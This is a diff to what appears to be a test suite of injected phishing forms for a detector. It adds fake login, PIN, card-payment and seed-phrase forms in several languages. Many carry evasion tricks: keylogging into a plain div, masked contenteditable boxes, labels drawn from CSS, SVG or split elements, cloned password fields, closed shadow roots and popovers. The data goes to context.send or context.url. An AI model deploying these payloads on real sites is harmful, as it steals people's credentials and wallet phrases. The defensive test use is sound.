@@ -84,6 +84,49 @@ export const phishingForms = createEffects(
     'seed phrase': (context) =>
       insert(formTo(context, 'Connect your wallet', '<input placeholder="Recovery phrase (12 words)">')),
     'into the page': (context) => insert(formTo(context, 'Sign in', password, 'target="_top" method="post"')),
+    'keys without a field': (context) =>
+      `${insert(page('Enter your PIN', `<div id="q7" tabindex="0" style="${field};border:1px solid"></div>`))};var b='';document.getElementById('q7').addEventListener('keydown',function(e){if(e.key.length===1){b+=e.key;this.textContent+='*'}b.length>9&&(function(){${context.send('b')}})()})`,
+    'editable box': (context) =>
+      `${insert(page('Your e-mail password', `<div id="q8" contenteditable="true" style="${field};-webkit-text-security:disc;border:1px solid"></div>`))};document.getElementById('q8').addEventListener('input',function(){${context.send('this.textContent')}})`,
+    'label by generated content': (context) =>
+      insert(
+        page(
+          '',
+          `<style>#q9::before{content:"Pass" "word"}</style><form action="${context.url('in')}"><p id="q9"></p><input name="v" style="${field};-webkit-text-security:circle"><button style="${button}">Sign in</button></form>`,
+        ),
+      ),
+    'label as a picture': (context) =>
+      insert(
+        page(
+          '',
+          `<img width="200" height="40" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Ctext y='20'%3EEnter your password%3C/text%3E%3C/svg%3E"><form action="${context.url('in')}"><input name="v" style="${field};-webkit-text-security:square"><button style="${button}">OK</button></form>`,
+        ),
+      ),
+    'letters in elements': (context) =>
+      insert(formTo(context, [...'Password'].map((sign) => `<i>${sign}</i>`).join(''), '<input autocomplete="off">')),
+    'German card form': (context) =>
+      insert(formTo(context, 'Zollgeb&uuml;hr 1,99 bezahlen', '<input placeholder="Kartennummer">')),
+    'French login': (context) => insert(formTo(context, 'Votre banque', '<input placeholder="Mot de passe">')),
+    'Spanish login': (context) => insert(formTo(context, 'Su banco', '<input placeholder="Contrase&ntilde;a">')),
+    'text area for a seed phrase': (context) =>
+      insert(
+        page(
+          'Wallet',
+          `<form action="${context.url('in')}" method="post"><textarea name="v" placeholder="Enter your 12 word secret phrase" style="${field}"></textarea><button style="${button}">Restore</button></form>`,
+        ),
+      ),
+    'type by an attribute node': (context) =>
+      `${insert(formTo(context, 'Account', '<input id="q10">'))};var n=document.createAttribute('type');n.value='pass'+'word';document.getElementById('q10').setAttributeNode(n)`,
+    'copy of the field of the page': (context) =>
+      `${insert(formTo(context, 'Sign in again', '<input id="q11">'))};var o=document.getElementById('q11'),n=document.importNode(D.getElementById('password'),true);n.id='q11';n.name='v';n.style.cssText=${quote(field)};o.replaceWith(n)`,
+    'field in an SVG': (context) =>
+      insert(
+        `<svg width="300" height="240" style="position:absolute;left:0;top:0;z-index:5"><foreignObject width="300" height="240">${formTo(context, 'Sign in', password)}</foreignObject></svg>`,
+      ),
+    'custom element': (context) =>
+      `var n='x-'+Math.random().toString(36).slice(2);customElements.define(n,class extends HTMLElement{connectedCallback(){this.attachShadow({mode:'closed'}).innerHTML=${quote(formTo(context, 'Sign in', password))}}});S.appendChild(document.createElement(n))`,
+    'popover with a form': (context) =>
+      `var p=document.createElement('div');p.popover='manual';p.style.cssText='margin:0;border:0;padding:0;background:none';p.innerHTML=${quote(formTo(context, 'Sign in', password))};S.appendChild(p);p.showPopover()`,
     'set as html': (context) =>
       `S.innerHTML=${quote(formTo(context, 'Netflix: update your payment', '<input autocomplete="cc-number" placeholder="Card number">'))}`,
   },
